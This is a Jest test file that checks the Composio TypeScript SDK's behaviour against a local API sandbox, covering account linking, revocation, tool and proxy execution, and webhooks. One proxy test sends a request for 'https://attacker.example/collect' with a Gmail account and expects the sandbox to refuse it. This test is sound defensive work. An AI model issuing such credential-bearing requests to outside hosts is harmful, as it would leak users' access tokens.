/**
 * @jest-environment ./test/sdk/native-esm-environment.cjs
 *
 * Conformance with the official TypeScript SDK: @composio/core 0.19.0 (with its Stainless client
 * @composio/client, which calls /api/v3.1) pointed at the sandbox must get what the real service
 * would return. The SDK validates responses with its own zod schemas; when a transform fails it
 * logs a warning and returns the raw (snake_case) object, so the tests also check that no
 * snake_case key leaked through.
 */
import {
	sandboxControl,
	SEED_ACCOUNTS,
	SEED_AUTH_CONFIGS,
	startSandbox,
	webhookControl,
	type RunningSandbox,
	type SandboxControl,
} from '../../sandbox/src';

type Core = typeof import('@composio/core');
type ComposioClient = InstanceType<Core['Composio']>;

/** Provided by native-esm-environment.cjs: Node's own dynamic import, outside Jest's vm. */
declare const __importEsm: (specifier: '@composio/core') => Promise<Core>;
/** URLs requested through the worker's global fetch (used by the SDK) during this file. */
declare const __esmFetchLog: string[];

const SNAKE_CASE_KEYS = [
	'auth_config',
	'status_reason',
	'is_disabled',
	'created_at',
	'updated_at',
	'word_id',
	'user_id',
];

function expectSdkShape(account: object): void {
	for (const key of SNAKE_CASE_KEYS) expect(account).not.toHaveProperty(key);
}

describe('@composio/core 0.19.0 against the sandbox', () => {
	let core: Core;
	let sandbox: RunningSandbox;
	let control: SandboxControl;
	let composio: ComposioClient;

	beforeAll(async () => {
		core = await __importEsm('@composio/core');
		sandbox = await startSandbox();
		control = sandboxControl(sandbox.url);
		// No telemetry and no npm version check: the SDK only talks to the sandbox.
		composio = new core.Composio({
			apiKey: sandbox.apiKey,
			baseURL: sandbox.url,
			allowTracking: false,
			disableVersionCheck: true,
		});
	});

	afterAll(async () => {
		await sandbox.close();
	});

	beforeEach(async () => {
		await control.reset();
	});

	afterEach(() => {
		const outside = __esmFetchLog.filter((url) => !url.startsWith(`${sandbox.url}/`));
		expect(outside).toEqual([]);
	});

	it('lists connected accounts with filters (comma-joined query) and pages with the cursor', async () => {
		const result = await composio.connectedAccounts.list({
			userIds: ['user_alice', 'user_bob'],
			statuses: ['ACTIVE'],
			toolkitSlugs: ['gmail', 'slack'],
		});
		expect(result.items.map((a) => a.id)).toEqual([
			SEED_ACCOUNTS.bobSlackSide,
			SEED_ACCOUNTS.aliceGmailPersonal,
			SEED_ACCOUNTS.bobSlackAcme,
			SEED_ACCOUNTS.aliceGmailWork,
		]);
		expect(result.totalPages).toBe(1);
		expect(result.nextCursor).toBeNull();
		result.items.forEach(expectSdkShape);
		expect(result.items[0]).toMatchObject({
			alias: 'side-project',
			status: 'ACTIVE',
			isDisabled: false,
			toolkit: { slug: 'slack' },
			authConfig: {
				id: SEED_AUTH_CONFIGS.slackManaged,
				isComposioManaged: true,
				isDisabled: false,
			},
		});

		const [logged] = await control.requests(1);
		expect(logged.rawQuery).toBe(
			'statuses=ACTIVE&toolkit_slugs=gmail%2Cslack&user_ids=user_alice%2Cuser_bob',
		);

		const first = await composio.connectedAccounts.list({ userIds: ['user_alice'], limit: 2 });
		expect(first.items).toHaveLength(2);
		expect(first.totalPages).toBe(3);
		const second = await composio.connectedAccounts.list({
			userIds: ['user_alice'],
			limit: 2,
			cursor: first.nextCursor,
		});
		expect(second.items.map((a) => a.id)).not.toContain(first.items[0].id);
		expect(second.items).toHaveLength(2);
	});

	it('revoke states through the official client (alpha.76 has no revoke method: its generic post() and error classes)', async () => {
		// The protected Stainless client the SDK uses for every call.
		const client = (
			composio as unknown as {
				client: { post: (path: string, options?: object) => Promise<unknown> };
			}
		).client;
		// maxRetries 0: the Stainless client retries 409 like 429 by default, which only slows this down.
		const revoke = async (id: string) =>
			await client.post(`/api/v3.1/connected_accounts/${id}/revoke`, { maxRetries: 0 });

		expect(await revoke(SEED_ACCOUNTS.daveGmail)).toEqual({
			revoked_tokens: ['access_token', 'refresh_token'],
			connected_account: { id: SEED_ACCOUNTS.daveGmail, status: 'REVOKED' },
		});
		expect(await revoke(SEED_ACCOUNTS.daveGmail)).toEqual({
			revoked_tokens: [],
			connected_account: { id: SEED_ACCOUNTS.daveGmail, status: 'REVOKED' },
		});
		for (const id of [
			SEED_ACCOUNTS.aliceSlackInactive,
			SEED_ACCOUNTS.bobGmailExpired,
			SEED_ACCOUNTS.carolGmailFailed,
			SEED_ACCOUNTS.bobGmailInitiated,
			SEED_ACCOUNTS.carolGithubInitializing,
		]) {
			const error = (await revoke(id).catch((e: unknown) => e)) as {
				status?: number;
				constructor: { name: string };
				error?: { error?: { message?: string } };
			};
			expect(error.constructor.name).toBe('ConflictError');
			expect(error.status).toBe(409);
			expect(error.error?.error?.message).toBe('Connection is not in a revokable state');
		}
		const notSupported = (await revoke(SEED_ACCOUNTS.aliceTavily).catch((e: unknown) => e)) as {
			status?: number;
			constructor: { name: string };
		};
		expect([notSupported.constructor.name, notSupported.status]).toEqual(['BadRequestError', 400]);
		expect((await control.account(SEED_ACCOUNTS.aliceSlackInactive)).status).toBe('INACTIVE');
	});

	it('reads redacted tokens for a custom auth config too, whatever the project flag', async () => {
		await control.setConfig({ maskSecrets: false });
		const github = await composio.connectedAccounts.get(SEED_ACCOUNTS.aliceGithub);
		expect(github.authConfig.isComposioManaged).toBe(false);
		expect(github.state?.val).toMatchObject({ access_token: 'gho_...' });
	});

	it('gets one account and reads its state', async () => {
		const account = await composio.connectedAccounts.get(SEED_ACCOUNTS.aliceGmailWork);
		expectSdkShape(account);
		expect(account).toMatchObject({
			id: SEED_ACCOUNTS.aliceGmailWork,
			alias: 'work',
			status: 'ACTIVE',
			statusReason: null,
			isDisabled: false,
			createdAt: '2026-03-02T10:15:00.000Z',
			authConfig: {
				id: SEED_AUTH_CONFIGS.gmailManaged,
				authScheme: 'OAUTH2',
				isComposioManaged: true,
			},
		});
		expect(account.wordId).toMatch(/^gmail_/);
		expect(account.state?.authScheme).toBe('OAUTH2');
		expect(account.state?.val).toMatchObject({
			status: 'ACTIVE',
			access_token: 'ya29...',
			refresh_token: '1//0...',
		});
		expect(account.params).toMatchObject({ status: 'ACTIVE' });

		const expired = await composio.connectedAccounts.get(SEED_ACCOUNTS.bobGmailExpired);
		expect(expired.state?.val).toEqual({
			status: 'EXPIRED',
			expired_at: '2026-05-20T06:00:00.000Z',
		});
		expect(expired.statusReason).toBe('Permanent auth error during token refresh');
		const revoked = await composio.connectedAccounts.get(SEED_ACCOUNTS.carolSlackRevoked);
		expect(revoked.state?.val.status).toBe('REVOKED');
		const apiKey = await composio.connectedAccounts.get(SEED_ACCOUNTS.aliceTavily);
		expect(apiKey.state).toEqual({
			authScheme: 'API_KEY',
			val: { status: 'ACTIVE', generic_api_key: 'tvly...' },
		});

		await expect(
			composio.connectedAccounts.get(SEED_ACCOUNTS.carolGithubDeleted),
		).rejects.toMatchObject({ status: 404 });
	});

	it('refreshes: an ACTIVE OAuth account goes back to INITIATED with a redirect URL', async () => {
		const result = await composio.connectedAccounts.refresh(SEED_ACCOUNTS.bobGithub);
		expect(result).toEqual({
			id: SEED_ACCOUNTS.bobGithub,
			status: 'INITIATED',
			redirect_url: expect.stringMatching(new RegExp(`^${sandbox.url}/link/ln_`)),
		});
		expect((await composio.connectedAccounts.get(SEED_ACCOUNTS.bobGithub)).status).toBe(
			'INITIATED',
		);
	});

	it('links and waits for the connection while the user completes the hosted page', async () => {
		const request = await composio.connectedAccounts.link(
			'user_erin',
			SEED_AUTH_CONFIGS.gmailManaged,
			{
				callbackUrl: 'https://app.example.com/connected',
			},
		);
		expect(request.status).toBe('INITIATED');
		expect(request.redirectUrl).toMatch(new RegExp(`^${sandbox.url}/link/ln_`));
		expect((await composio.connectedAccounts.get(request.id)).status).toBe('INITIATED');

		const [account, visit] = await Promise.all([
			request.waitForConnection(20_000),
			control.visitLink(request.redirectUrl ?? '', { identity: 'erin@example.com' }),
		]);
		expect(visit.callbackParams).toEqual({ status: 'success', connected_account_id: request.id });
		expectSdkShape(account);
		expect(account).toMatchObject({
			id: request.id,
			status: 'ACTIVE',
			authConfig: { id: SEED_AUTH_CONFIGS.gmailManaged },
		});
		expect(account.state?.val.access_token).toBe('ya29...');

		const profile = await composio.tools.execute('GMAIL_GET_PROFILE', {
			connectedAccountId: request.id,
			version: '20251111_00',
			arguments: {},
		});
		expect(profile.data.emailAddress).toBe('erin@example.com');
	});

	it('fails waitForConnection fast when the user declines', async () => {
		const request = await composio.connectedAccounts.link(
			'user_erin',
			SEED_AUTH_CONFIGS.slackManaged,
		);
		const [outcome] = await Promise.allSettled([
			request.waitForConnection(20_000),
			control.visitLink(request.redirectUrl ?? '', { outcome: 'fail' }),
		]);
		expect(outcome.status).toBe('rejected');
		const error = (outcome as PromiseRejectedResult).reason as Error;
		expect(error).toBeInstanceOf(core.ConnectionRequestFailedError);
		expect(error.message).toBe(
			'Connection request failed with status: FAILED, reason: OAuth callback failed during token exchange',
		);
	});

	it('reports an expired link as a failed connection', async () => {
		const request = await composio.connectedAccounts.link(
			'user_erin',
			SEED_AUTH_CONFIGS.gmailManaged,
		);
		await control.advanceClock(600_000);
		await expect(request.waitForConnection(5_000)).rejects.toThrow(
			'Connection request failed with status: EXPIRED, reason: Connection initiation did not complete within 10 minutes',
		);
	});

	it('guards link/initiate with allowMultiple using the ACTIVE list', async () => {
		await expect(
			composio.connectedAccounts.link('user_alice', SEED_AUTH_CONFIGS.gmailManaged),
		).rejects.toBeInstanceOf(core.ComposioMultipleConnectedAccountsError);
		await expect(
			composio.connectedAccounts.initiate('user_carol', SEED_AUTH_CONFIGS.gmailCustom),
		).rejects.toBeInstanceOf(core.ComposioMultipleConnectedAccountsError);
		const [guard] = (await control.requests()).filter((r) => r.route === 'GET /connected_accounts');
		expect(guard.query).toEqual({
			auth_config_ids: [SEED_AUTH_CONFIGS.gmailManaged],
			statuses: ['ACTIVE'],
			user_ids: ['user_alice'],
		});
	});

	it('initiates a second account with allowMultiple (custom OAuth app) and completes it', async () => {
		const request = await composio.connectedAccounts.initiate(
			'user_carol',
			SEED_AUTH_CONFIGS.gmailCustom,
			{
				allowMultiple: true,
				alias: 'second',
				callbackUrl: 'https://app.example.com/oauth',
			},
		);
		expect(request.status).toBe('INITIATED');
		expect(request.redirectUrl).toMatch(new RegExp(`^${sandbox.url}/link/ln_`));
		const [account] = await Promise.all([
			request.waitForConnection(20_000),
			control.visitLink(request.redirectUrl ?? '', { identity: 'carol.second@example.com' }),
		]);
		expect(account).toMatchObject({ status: 'ACTIVE', alias: 'second' });
		const carolGmail = await composio.connectedAccounts.list({
			userIds: ['user_carol'],
			toolkitSlugs: ['gmail'],
			statuses: ['ACTIVE'],
		});
		expect(carolGmail.items.map((a) => a.alias)).toEqual(['second', 'main']);

		const [created] = (await control.requests()).filter(
			(r) => r.route === 'POST /connected_accounts',
		);
		expect(created.body).toEqual({
			auth_config: { id: SEED_AUTH_CONFIGS.gmailCustom },
			connection: {
				callback_url: 'https://app.example.com/oauth',
				user_id: 'user_carol',
				alias: 'second',
			},
		});
	});

	it('imports an API key with initiate (ACTIVE at once) and maps the managed-OAuth retirement 400', async () => {
		const imported = await composio.connectedAccounts.initiate(
			'user_dave',
			SEED_AUTH_CONFIGS.tavilyApiKey,
			{
				config: core.AuthScheme.APIKey({ generic_api_key: 'tvly-example-for-dave' }),
			},
		);
		expect(imported.status).toBe('ACTIVE');
		expect(imported.redirectUrl).toBeNull();
		expect((await control.account(imported.id)).val.generic_api_key).toBe('tvly-example-for-dave');

		await expect(
			composio.connectedAccounts.initiate('user_erin', SEED_AUTH_CONFIGS.gmailManaged),
		).rejects.toBeInstanceOf(core.ComposioLegacyConnectedAccountsEndpointRetiredError);
	});

	it('disables, enables and deletes', async () => {
		const id = SEED_ACCOUNTS.aliceGithub;
		expect(await composio.connectedAccounts.disable(id)).toEqual({ success: true });
		expect(await composio.connectedAccounts.get(id)).toMatchObject({
			status: 'INACTIVE',
			isDisabled: true,
		});
		expect(await composio.connectedAccounts.enable(id)).toEqual({ success: true });
		expect(await composio.connectedAccounts.get(id)).toMatchObject({
			status: 'ACTIVE',
			isDisabled: false,
		});

		expect(await composio.connectedAccounts.delete(id)).toEqual({ success: true });
		await expect(composio.connectedAccounts.get(id)).rejects.toMatchObject({ status: 404 });
		await expect(composio.connectedAccounts.waitForConnection(id, 1_000)).rejects.toBeInstanceOf(
			core.ComposioConnectedAccountNotFoundError,
		);
	});

	it('executes GMAIL_GET_PROFILE with a chosen account and version 20251111_00', async () => {
		const result = await composio.tools.execute('GMAIL_GET_PROFILE', {
			userId: 'user_alice',
			connectedAccountId: SEED_ACCOUNTS.aliceGmailWork,
			version: '20251111_00',
			arguments: {},
		});
		expect(result).toEqual({
			data: {
				emailAddress: 'alice.work@example.com',
				messagesTotal: expect.any(Number),
				threadsTotal: expect.any(Number),
				historyId: expect.any(String),
			},
			error: null,
			successful: true,
			logId: expect.stringMatching(/^log_/),
			sessionInfo: null,
		});

		const requests = await control.requests(2);
		expect(requests[0]).toMatchObject({
			method: 'GET',
			path: '/api/v3.1/tools/GMAIL_GET_PROFILE',
			rawQuery: 'version=20251111_00',
		});
		expect(requests[1]).toMatchObject({
			method: 'POST',
			path: '/api/v3.1/tools/execute/GMAIL_GET_PROFILE',
		});
		expect(requests[1].body).toEqual({
			connected_account_id: SEED_ACCOUNTS.aliceGmailWork,
			arguments: {},
			user_id: 'user_alice',
			version: '20251111_00',
		});
		expect((await control.counters()).toolExecutions.byAccount).toEqual({
			[SEED_ACCOUNTS.aliceGmailWork]: 1,
		});
	});

	it('reads tool schemas per version and surfaces execution errors the SDK way', async () => {
		const tool = await composio.tools.getRawComposioToolBySlug('GMAIL_SEND_EMAIL', {
			version: '20251027_00',
		});
		expect(tool.version).toBe('20251027_00');
		expect(tool.availableVersions).toEqual(['20251111_00', '20251027_00', '20250909_00']);
		expect(Object.keys(tool.inputParameters?.properties ?? {})).toEqual(
			expect.arrayContaining(['recipient_email', 'body', 'is_html']),
		);
		expect(tool.inputParameters?.properties).not.toHaveProperty('extra_recipients');

		// The SDK refuses `latest` for manual execution before any request is sent.
		await expect(
			composio.tools.execute('GMAIL_GET_PROFILE', { userId: 'user_alice', arguments: {} }),
		).rejects.toBeInstanceOf(core.ComposioToolVersionRequiredError);
		expect((await control.counters()).toolExecutions.total).toBe(0);

		await expect(
			composio.tools.execute('GMAIL_GET_PROFILE', {
				userId: 'user_erin',
				version: '20251111_00',
				arguments: {},
			}),
		).rejects.toBeInstanceOf(core.ComposioConnectedAccountNotFoundError);

		const failed = await composio.tools.execute('GMAIL_SEND_EMAIL', {
			userId: 'user_dave',
			version: '20251111_00',
			arguments: { recipient_email: 'x@invalid.example', body: 'hello' },
		});
		expect(failed.successful).toBe(false);
		expect(failed.error).toMatch(/Invalid To header/);

		await expect(
			composio.tools.getRawComposioToolBySlug('GMAIL_NOPE', { version: '20251111_00' }),
		).rejects.toBeInstanceOf(core.ComposioToolNotFoundError);
	});

	it('proxyExecute: the provider gets the query, headers and body; binary answers and Composio’s refusals come back as the SDK expects', async () => {
		const get = await composio.tools.proxyExecute({
			endpoint: '/gmail/v1/users/me/messages',
			method: 'GET',
			connectedAccountId: SEED_ACCOUNTS.aliceGmailWork,
			parameters: [
				{ in: 'query', name: 'maxResults', value: 10 },
				{ in: 'header', name: 'X-Trace', value: 'sdk' },
			],
		});
		expect(get).toMatchObject({
			status: 200,
			headers: { 'x-sandbox-provider': 'gmail' },
			data: {
				received: {
					method: 'GET',
					url: 'https://gmail.googleapis.com/gmail/v1/users/me/messages',
					query: { maxResults: ['10'] },
					headers: { 'x-trace': 'sdk', authorization: 'Bearer ya29...' },
					injected: { in: 'header', name: 'authorization' },
				},
				connected_account_id: SEED_ACCOUNTS.aliceGmailWork,
			},
		});
		const [sent] = await control.requests(1);
		expect(sent).toMatchObject({ method: 'POST', path: '/api/v3.1/tools/execute/proxy' });
		expect(sent.body).toEqual({
			endpoint: '/gmail/v1/users/me/messages',
			method: 'GET',
			connected_account_id: SEED_ACCOUNTS.aliceGmailWork,
			parameters: [
				{ name: 'maxResults', type: 'query', value: '10' },
				{ name: 'X-Trace', type: 'header', value: 'sdk' },
			],
		});

		const post = await composio.tools.proxyExecute({
			endpoint: '/repos/alice-dev/demo/issues',
			method: 'POST',
			connectedAccountId: SEED_ACCOUNTS.aliceGithub,
			body: { title: 'From the SDK' },
		});
		expect(post.status).toBe(201);
		expect((post.data as { received: { body: unknown } }).received.body).toEqual({
			title: 'From the SDK',
		});

		const providerError = await composio.tools.proxyExecute({
			endpoint: '/repos/alice-dev/missing/__status/404',
			method: 'GET',
			connectedAccountId: SEED_ACCOUNTS.aliceGithub,
		});
		expect(providerError.status).toBe(404);

		const file = (await composio.tools.proxyExecute({
			endpoint: '/avatar/__binary',
			method: 'GET',
			connectedAccountId: SEED_ACCOUNTS.aliceGithub,
		})) as { binary_data?: { url: string; content_type: string; size: number } };
		expect(file.binary_data).toMatchObject({ content_type: 'image/png', size: 256 });
		expect(file.binary_data?.url.startsWith(`${sandbox.url}/`)).toBe(true);

		await expect(
			composio.tools.proxyExecute({
				endpoint: 'https://attacker.example/collect',
				method: 'GET',
				connectedAccountId: SEED_ACCOUNTS.aliceGmailWork,
			}),
		).rejects.toMatchObject({ status: 400, error: { error: { slug: 'OriginMismatch' } } });
		await expect(
			composio.tools.proxyExecute({ endpoint: '/user', method: 'GET' }),
		).rejects.toMatchObject({ status: 400, error: { error: { slug: 'MissingAuthContext' } } });
	});

	it('reads auth configs and toolkits through the SDK transforms', async () => {
		const configs = await composio.authConfigs.list({ toolkit: 'gmail' });
		expect(configs.items.map((c) => c.id).sort()).toEqual(
			[SEED_AUTH_CONFIGS.gmailCustom, SEED_AUTH_CONFIGS.gmailManaged].sort(),
		);
		for (const c of configs.items) expect(c).not.toHaveProperty('no_of_connections');
		const managed = await composio.authConfigs.get(SEED_AUTH_CONFIGS.gmailManaged);
		expect(managed).toMatchObject({
			id: SEED_AUTH_CONFIGS.gmailManaged,
			isComposioManaged: true,
			status: 'ENABLED',
			authScheme: 'OAUTH2',
			noOfConnections: 6,
		});
		const toolkit = await composio.toolkits.get('gmail');
		expect(toolkit).toMatchObject({
			slug: 'gmail',
			name: 'Gmail',
			isLocalToolkit: false,
			composioManagedAuthSchemes: ['OAUTH2'],
			meta: {
				categories: [
					{ slug: 'email', name: 'Email' },
					{ slug: 'productivity', name: 'Productivity' },
				],
				toolsCount: 3,
			},
		});
		expect(toolkit).not.toHaveProperty('is_local_toolkit');
		expect(toolkit.meta).not.toHaveProperty('tools_count');
		const toolkits = await composio.toolkits.get({ sortBy: 'alphabetically' });
		expect(toolkits.map((t) => t.slug)).toEqual(['github', 'gmail', 'slack', 'tavily']);
		for (const t of toolkits) expect(t).not.toHaveProperty('is_local_toolkit');
	});

	it('sets the webhook subscription (create, then update) and reads its signing secret from every answer', async () => {
		const url = 'https://n8n.example.com/webhook/abc/webhook';
		const created = await composio.triggers.setWebhookSubscription({
			webhookUrl: url,
			enabledEvents: ['composio.connected_account.expired'],
		});
		const stored = await webhookControl(sandbox.url).subscription();
		expect(created).toEqual({
			id: stored?.id,
			webhookUrl: url,
			version: 'V3',
			enabledEvents: ['composio.connected_account.expired'],
			secret: stored?.secret,
			createdAt: expect.any(String),
			updatedAt: expect.any(String),
		});
		// The second call lists (limit 1), finds it and PATCHes it: the v3.1 answer still has the secret.
		const updated = await composio.triggers.setWebhookSubscription({ webhookUrl: `${url}2` });
		expect(updated).toMatchObject({
			id: created.id,
			webhookUrl: `${url}2`,
			enabledEvents: ['composio.trigger.message'],
			secret: created.secret,
		});

		await control.reset();
		await expect(
			composio.triggers.setWebhookSubscription({ webhookUrl: 'http://127.0.0.1:5678/hook' }),
		).rejects.toMatchObject({ status: 400 });
		expect(await webhookControl(sandbox.url).subscription()).toBeNull();
	});
});
